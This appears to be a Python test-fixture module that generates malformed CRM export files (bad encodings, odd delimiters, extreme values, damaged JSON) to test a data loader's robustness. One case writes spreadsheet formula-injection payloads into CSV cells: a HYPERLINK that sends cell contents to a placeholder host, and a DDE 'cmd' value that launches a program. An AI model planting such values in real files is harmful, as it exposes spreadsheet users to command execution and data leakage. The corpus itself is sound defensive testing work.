"""The hostile-input corpus: small files made by code, each one a way a CRM export goes wrong.

:func:`build` writes every case into a folder and returns ``{case: path}``. The cases start from
a small clean sample (60 deals of the built-in CRM) so a file is only as odd as its case says.
:func:`build_parquet` writes what the lazy engines scan as they are (canonical Parquet of each
case that loads, a zero-row one, one with CRM headers), and :func:`build_artefacts` the damaged
workspace files (corrupt, empty, another kind, a newer schema version).
"""

from __future__ import annotations

from collections.abc import Callable
from pathlib import Path

import numpy as np
import pandas as pd

from salesops_nb.data.sample import sample_opportunities

Writer = Callable[[pd.DataFrame, Path], Path]


def _base() -> pd.DataFrame:
    # Plain object columns: the sample's categoricals would refuse the edits below.
    frame = sample_opportunities(rows=60, seed=11)
    return frame.astype({c: object for c in frame.columns if frame[c].dtype == "category"})


def _csv(frame: pd.DataFrame, path: Path, **kwargs) -> Path:
    frame.to_csv(path, index=False, **kwargs)
    return path


def _empty(_f, folder):
    path = folder / "empty.csv"
    path.write_bytes(b"")
    return path


def _header_only(f, folder):
    return _csv(f.head(0), folder / "header_only.csv")


def _semicolons(f, folder):
    return _csv(f, folder / "semicolons.csv", sep=";")


def _tabs_named_csv(f, folder):
    return _csv(f, folder / "tabs.csv", sep="\t")


def _utf16(f, folder):
    return _csv(f, folder / "utf16.csv", encoding="utf-16")


def _latin1(f, folder):
    g = f.copy()
    g["account_name"] = g["account_name"] + " Société Générale Müller"
    return _csv(g, folder / "latin1.csv", encoding="latin-1")


def _bom(f, folder):
    return _csv(f, folder / "bom.csv", encoding="utf-8-sig")


def _excel_merged_header(f, folder):
    import openpyxl

    path = folder / "merged_header.xlsx"
    with pd.ExcelWriter(path, engine="openpyxl") as writer:
        f.to_excel(writer, sheet_name="Deals", index=False, startrow=1)
        f.head(5).to_excel(writer, sheet_name="Notes", index=False)
    book = openpyxl.load_workbook(path)
    sheet = book["Deals"]
    sheet["A1"] = "CRM export, Q3 (merged title row)"
    sheet.merge_cells(start_row=1, start_column=1, end_row=1, end_column=6)
    book.save(path)
    return path


def _excel_sheets(f, folder):
    path = folder / "several_sheets.xlsx"
    with pd.ExcelWriter(path, engine="openpyxl") as writer:
        pd.DataFrame({"read me": ["exported by the CRM"]}).to_excel(writer, sheet_name="Cover",
                                                                   index=False)
        f.to_excel(writer, sheet_name="Opportunities", index=False)
    return path


def _duplicate_columns(f, folder):
    path = folder / "duplicate_columns.csv"
    text = f.to_csv(index=False)
    header, rest = text.split("\n", 1)
    path.write_text(header.replace("rep_name", "amount") + "\n" + rest, encoding="utf-8")
    return path


def _all_nan(f, folder):
    g = f.copy()
    g["amount"] = np.nan
    g["team"] = np.nan
    return _csv(g, folder / "all_nan.csv")


def _constant(f, folder):
    g = f.copy()
    g["amount"] = 1000.0
    g["team"] = "Only"
    g["region"] = "Everywhere"
    return _csv(g, folder / "constant.csv")


def _negative(f, folder):
    g = f.copy()
    g.loc[g.index[::3], "amount"] = -g["amount"]
    return _csv(g, folder / "negative_amounts.csv")


def _astronomical(f, folder):
    g = f.copy()
    g["amount"] = g["amount"].astype(object)
    g.loc[g.index[::4], "amount"] = "1e308"
    g.loc[g.index[1], "amount"] = "9" * 400
    return _csv(g, folder / "astronomical_amounts.csv")


def _future_dates(f, folder):
    g = f.copy()
    g["close_date"] = "2999-12-31"
    g["created_date"] = "2998-01-01"
    return _csv(g, folder / "future_dates.csv")


def _mixed_dates(f, folder):
    g = f.copy()
    styles = ["%Y-%m-%d", "%d/%m/%Y", "%m/%d/%Y", "%d %b %Y", "%Y%m%d"]
    dates = pd.to_datetime(g["close_date"])
    g["close_date"] = [d.strftime(styles[i % len(styles)]) for i, d in enumerate(dates)]
    return _csv(g, folder / "mixed_dates.csv")


def _duplicate_ids(f, folder):
    g = f.copy()
    g.loc[g.index[:20], "opportunity_id"] = "OPP-000001"
    return _csv(g, folder / "duplicate_ids.csv")


def _many_categories(_f, folder):
    f = sample_opportunities(rows=100_000, seed=3)
    f = f.astype({c: object for c in f.columns if f[c].dtype == "category"})
    f["lead_source"] = "source-" + pd.Series(range(len(f))).astype(str)
    f["team"] = "team-" + pd.Series(range(len(f))).astype(str)
    return _csv(f, folder / "many_categories.csv")


def _keyword_column(f, folder):
    g = f.rename(columns={"lead_source": "class"})
    g["lambda"] = 1
    return _csv(g, folder / "keyword_column.csv")


def _formula_cells(f, folder):
    g = f.copy()
    g["account_name"] = '=HYPERLINK("http://example.invalid/?x="&A1,"open")'
    g["rep_name"] = "+cmd|' /C calc'!A0"
    g["team"] = "@SUM(1+1)"
    return _csv(g, folder / "formula_cells.csv")


CASES: dict[str, Callable[[pd.DataFrame, Path], Path]] = {
    "empty": _empty,
    "header only": _header_only,
    "semicolon delimiter": _semicolons,
    "tab delimiter in .csv": _tabs_named_csv,
    "UTF-16": _utf16,
    "Latin-1 accents": _latin1,
    "UTF-8 BOM": _bom,
    "Excel merged header row": _excel_merged_header,
    "Excel several sheets": _excel_sheets,
    "duplicate column names": _duplicate_columns,
    "all-NaN columns": _all_nan,
    "constant columns": _constant,
    "negative amounts": _negative,
    "astronomical amounts": _astronomical,
    "future dates": _future_dates,
    "mixed date formats": _mixed_dates,
    "duplicate ids": _duplicate_ids,
    "100k distinct categories": _many_categories,
    "keyword column names": _keyword_column,
    "=HYPERLINK formula cells": _formula_cells,
}


def build(folder: Path) -> dict[str, Path]:
    """Write every case into ``folder``; case -> file."""
    base = _base()
    return {case: make(base, folder) for case, make in CASES.items()}


def build_parquet(corpus: dict[str, Path], folder: Path) -> dict[str, Path]:
    """Canonical Parquet of every case that loads, plus two Parquet-only cases; case -> file.

    Polars, DuckDB and Spark scan a Parquet file as it is (no header mapping, no cleaning), so
    the odd values (infinite or negative amounts, empty columns, 100k categories, dates in
    2999) reach the engines' own code only this way.
    """
    from salesops_nb.data.load import load_opportunities
    from salesops_nb.errors import SalesOpsError

    files: dict[str, Path] = {}
    for case, source in corpus.items():
        try:
            deals = load_opportunities(source)
        except SalesOpsError:
            continue
        files[case] = folder / f"{source.stem}.parquet"
        deals.to_parquet(files[case])
    clean = load_opportunities(corpus["UTF-8 BOM"])
    files["zero rows (Parquet)"] = folder / "zero_rows.parquet"
    clean.head(0).to_parquet(files["zero rows (Parquet)"])
    crm = _base().rename(columns={"opportunity_id": "Opportunity ID", "amount": "Amount",
                                  "stage": "Stage"}).drop(columns=["is_closed", "is_won"],
                                                          errors="ignore")
    files["CRM headers (Parquet)"] = folder / "crm_headers.parquet"
    crm.to_parquet(files["CRM headers (Parquet)"])
    return files


#: Damaged workspace files: case -> what the file holds (``{kind}`` is the artefact's kind).
ARTEFACT_CASES: dict[str, str] = {
    "corrupt JSON": '{"kind": "{kind}", "schema_version": 1, "data": {"title": "half',
    "empty file": "",
    "JSON of another kind": '{"kind": "note", "schema_version": 1, "data": {"text": "x"}}',
    "newer schema_version": '{"kind": "{kind}", "schema_version": 99, "revision": 3, '
    '"data": {}}',
}


def build_artefacts(folder: Path, kind: str, cases: list[str]) -> dict[str, Path]:
    """``<folder>/<case>/<kind>/main.json`` for each damaged case; case -> file."""
    files = {}
    for case in cases:
        path = folder / case.replace(" ", "-") / kind / "main.json"
        path.parent.mkdir(parents=True)
        path.write_text(ARTEFACT_CASES[case].replace("{kind}", kind), encoding="utf-8")
        files[case] = path
    return files
